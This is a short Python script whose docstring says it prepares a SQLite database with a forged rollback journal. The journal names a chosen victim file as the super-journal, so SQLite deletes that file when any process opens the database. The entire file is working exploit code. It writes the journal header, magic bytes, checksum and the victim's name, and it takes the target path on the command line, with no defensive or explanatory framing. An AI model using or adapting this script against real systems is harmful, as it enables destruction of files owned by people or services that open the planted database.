# SPDX-License-Identifier: Apache-2.0
"""Prepares a database whose rollback journal names a file that SQLite deletes when it opens it.

usage: prepared_journal.py DATABASE VICTIM

The database is created if it does not exist. Its journal looks like the one of a transaction over
several databases that was interrupted: the victim is named as the super-journal, which SQLite
deletes after the rollback, with the rights of the process that opens the database.
"""

import os
import sqlite3
import struct
import sys

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def page_facts(database):
    with sqlite3.connect(database) as on:
        on.execute("PRAGMA journal_mode=DELETE")
        on.execute("CREATE TABLE IF NOT EXISTS prepared(id INTEGER)")
    on.close()
    with open(database, "rb") as file:
        size = struct.unpack(">H", file.read(18)[16:18])[0]
    size = 65536 if size == 1 else size
    return size, os.path.getsize(database) // size


database, victim = sys.argv[1:]
page_bytes, pages = page_facts(database)
header = MAGIC + struct.pack(">IIIII", 0, 1, pages, SECTOR, page_bytes)
name = victim.encode()
last = struct.pack(">I", 0x40000000 // page_bytes + 1) + name
last += struct.pack(">II", len(name), sum(name)) + MAGIC
with open(database + "-journal", "wb") as journal:
    journal.write(header.ljust(SECTOR, b"\0") + last)
